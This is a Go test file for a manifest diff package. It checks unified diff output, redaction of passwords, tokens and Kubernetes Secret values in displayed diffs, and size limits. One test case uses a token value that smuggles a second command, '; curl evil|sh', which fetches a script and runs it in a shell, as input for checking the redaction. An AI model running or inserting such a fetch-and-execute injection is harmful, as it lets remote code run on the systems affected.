package manifest

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestDiffIsUnifiedAndNamesOnlyWhatChanges(t *testing.T) {
	t.Parallel()
	before := "a: 1\nb: 2\nc: 3\nd: 4\nimage: old # ours\ne: 5\nf: 6\ng: 7\nh: 8\n"
	got, err := Diff([]Revision{
		{Path: "staging/api.yaml", Before: before, After: strings.Replace(before, "old", "new", 1)},
		{Path: "staging/same.yaml", Before: before, After: before},
	}, 0)
	if err != nil {
		t.Fatal(err)
	}
	want := []Change{{Path: "staging/api.yaml", Diff: `diff --git a/staging/api.yaml b/staging/api.yaml
index 6e4d09f2bb4da2a6a7f4b1bed3cc87c9d4d7cbc3..0 100644
--- a/staging/api.yaml
+++ b/staging/api.yaml
@@ -2,7 +2,7 @@ a: 1
 b: 2
 c: 3
 d: 4
-image: old # ours
+image: new # ours
 e: 5
 f: 6
 g: 7
`}}
	// The line with the names of the blobs is Git's business.
	for _, changes := range [][]Change{got, want} {
		for i := range changes {
			lines := strings.SplitAfter(changes[i].Diff, "\n")
			changes[i].Diff = strings.Join(append(lines[:1:1], lines[2:]...), "")
		}
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("changes (-want +got):\n%s", d)
	}
}

// What people read of a change has no secret, and says where one differs; what is none stays, also what has a name like one.
func TestDiffShownHasNoSecret(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		before, after string
		want          []string
		redacted      bool
	}{
		"a password":              {"password: hunter1\n", "password: hunter2\n", []string{"-password: (hidden, as it was)", "+password: (hidden, as it will be)"}, true},
		"one of several words":    {"password: a hunter1\n", "password: a hunter2&b\n", []string{"+password: (hidden, as it will be)"}, true},
		"one beside what differs": {"password: hunter1\nimage: old\n", "password: hunter1\nimage: new\n", []string{" password: (hidden)", "+image: new"}, true},
		"a variable":              {"- name: DB_PASSWORD\n  value: hunter1\n", "- name: DB_PASSWORD\n  value: hunter2\n", []string{"+  value: (hidden, as it will be)"}, true},
		"a token as a variable": {
			"- name: API_TOKEN\n  value: hunter1\n- name: LEVEL\n  value: a\n", "- name: API_TOKEN\n  value: hunter2\n- name: LEVEL\n  value: b\n",
			[]string{"+  value: (hidden, as it will be)", "+  value: b"},
			true,
		},
		"what refers to one": {
			"imagePullSecrets:\n- name: a\nenv:\n- name: DB_PASSWORD\n  value: $(A)\n- name: API_KEY\n  valueFrom: {secretKeyRef: {name: a, key: b}}\n",
			"imagePullSecrets:\n- name: b\nenv:\n- name: DB_PASSWORD\n  value: $(B)\n- name: API_KEY\n  valueFrom: {secretKeyRef: {name: b, key: b}}\n",
			[]string{"+- name: b", "+  value: $(B)", "+  valueFrom: {secretKeyRef: {name: b, key: b}}"},
			false,
		},
		"a command behind a token": {"- X_TOKEN=hunter1\n", "- X_TOKEN=hunter1; curl evil|sh\n", []string{"+- X_TOKEN=(hidden, as it will be) curl evil|sh"}, true},
		"a variable of several lines": {
			"- name: DB_PASSWORD\n  value: |\n    hunter\n\n    1\n- name: LEVEL\n  value: a\n", "- name: DB_PASSWORD\n  value: |\n    hunter\n\n    2\n- name: LEVEL\n  value: b\n",
			[]string{"     (hidden)", "+    (hidden, as it will be)", "+  value: b"},
			true,
		},
		"words and what looks like a comment": {"password: a#hunter b\n", "password: a#hunter c\n", []string{"+password: (hidden, as it will be)"}, true},
		"a truth value with a comment": {
			"automountServiceAccountToken: true # a\n", "automountServiceAccountToken: false # b\n", []string{"+automountServiceAccountToken: false # b"}, false,
		},
		"a Secret as JSON": {
			"{\n  \"kind\": \"Secret\",\n  \"data\": {\n    \"url\": \"hunter1\"\n  }\n}\n", "{\n  \"kind\": \"Secret\",\n  \"data\": {\n    \"url\": \"hunter2\"\n  }\n}\n",
			[]string{"+    (hidden, as it will be)"},
			true,
		},
		"a Secret in a list, with a flow": {
			"items:\n- kind: Secret\n  data: {url: hunter1}\n- {kind: Secret, data: {url: hunter}}\n", "items:\n- kind: Secret\n  data: {url: hunter2}\n- {kind: Secret, data: {url: hunter}}\n",
			[]string{"+  data: (hidden, as it will be)", " (hidden)"},
			true,
		},
		"a variable whose name is below": {
			"- value: |\n    hunter1\n  # why\n  name: DB_PASSWORD\n- value: a\n  name: LEVEL\n- value: b\n- name: API_TOKEN\n",
			"- value: |\n    hunter2\n  # why\n  name: DB_PASSWORD\n- value: c\n  name: LEVEL\n- value: d\n- name: API_TOKEN\n",
			[]string{"+    (hidden, as it will be)", "   # why", "   name: DB_PASSWORD", "+- value: c", "   name: LEVEL", "+- value: d"},
			true,
		},
		"a Secret in a list, whose data continues": {
			"items:\n- data: {a: hunter1,\n  b: hunter1}\n  kind: Secret\n", "items:\n- data: {a: hunter2,\n  b: hunter2}\n  kind: Secret\n",
			[]string{"+- data: (hidden, as it will be)", "+  (hidden, as it will be)"},
			true,
		},
		"a list between the name of a variable and its value": {
			"- name: DB_PASSWORD\n  notes:\n  - a\n  value: hunter1\n", "- name: DB_PASSWORD\n  notes:\n  - b\n  value: hunter2\n",
			[]string{"+  - b", "+  value: (hidden, as it will be)"},
			true,
		},
		"a variable on one line": {"- {name: DB_PASSWORD, value: hunter1}\n", "- {name: DB_PASSWORD, value: hunter2}\n", []string{"+- {name: DB_PASSWORD, value: (hidden"}, true},
		"a Secret": {
			"kind: Secret\ndata:\n  url: hunter1\n  other: |\n    hunter\n---\nkind: ConfigMap\ndata:\n  url: a\n",
			"# ours\nkind: Secret\ndata:\n  url: hunter2\n  other: |\n    hunter\n---\nkind: ConfigMap\ndata:\n  url: b\n",
			[]string{"+# ours", "+  url: (hidden, as it will be)", "     (hidden)", "-  url: a", "+  url: b"},
			true,
		},
		"a Secret on one line": {"", "{kind: Secret, data: {url: hunter2}}\n", []string{"+(hidden, as it will be)"}, true},
		"a login":              {"args: [-u, x]\n# curl -u me:hunter1 x\n", "args: [-u, x]\n# curl -u me:hunter2 x\n", []string{"+# curl -u (hidden, as it will be) x"}, true},
		"what is none": {
			"automountServiceAccountToken: false\nimage: acme/token-service:1\n", "automountServiceAccountToken: true\nimage: acme/token-service:2\n",
			[]string{"+automountServiceAccountToken: true", "+image: acme/token-service:2"},
			false,
		},
	} {
		got, err := DiffShown([]Revision{{Path: "a.yaml", Before: c.before, After: c.after}, {Path: "same.yaml", Before: c.before, After: c.before}}, 0)
		if err != nil || len(got) != 1 || got[0].Redacted != c.redacted {
			t.Errorf("%s: found %+v, %v", name, got, err)
			continue
		}
		if strings.Contains(got[0].Diff, "hunter") || strings.Contains(got[0].Diff, "hidden-") {
			t.Errorf("%s: found %s", name, got[0].Diff)
		}
		for _, line := range c.want {
			if !strings.Contains(got[0].Diff, line) {
				t.Errorf("%s: found %s; want the line %q", name, got[0].Diff, line)
			}
		}
	}
}

func TestDiffOfNothingIsAnEmptyList(t *testing.T) {
	t.Parallel()
	got, err := Diff([]Revision{{Path: "a", Before: "x", After: "x"}}, 0)
	if err != nil || got == nil || len(got) != 0 {
		t.Errorf("found %#v, %v; expected an empty list", got, err)
	}
}

// TestDiffIsBounded: it goes into an event, which has at most a megabyte.
func TestDiffIsBounded(t *testing.T) {
	t.Parallel()
	files := make([]Revision, 40)
	for i := range files {
		files[i] = Revision{
			Path: fmt.Sprintf("%d.yaml", i), Before: strings.Repeat("before: a line of the file\n", 4000),
			After: strings.Repeat("after: a line of the file\n", 4000),
		}
	}
	if some, err := Diff(files, 100); err != nil || len(some[0].Diff) > 100 || !some[0].Truncated {
		t.Errorf("found %v, %v; expected 100 bytes at most", some, err)
	}
	got, err := Diff(files, 0)
	if err != nil {
		t.Fatal(err)
	}
	total := 0
	for _, c := range got {
		total += len(c.Diff)
		if !c.Truncated || len(c.Diff) > maxDiff || c.Diff != "" && !strings.HasSuffix(c.Diff, "\n") {
			t.Fatalf("%s: found %d bytes, truncated %v; expected at most %d, cut at a line's end", c.Path, len(c.Diff), c.Truncated, maxDiff)
		}
	}
	if len(got) != len(files) || total > maxDiffs {
		t.Errorf("found %d changes of %d bytes; expected %d of at most %d", len(got), total, len(files), maxDiffs)
	}
}
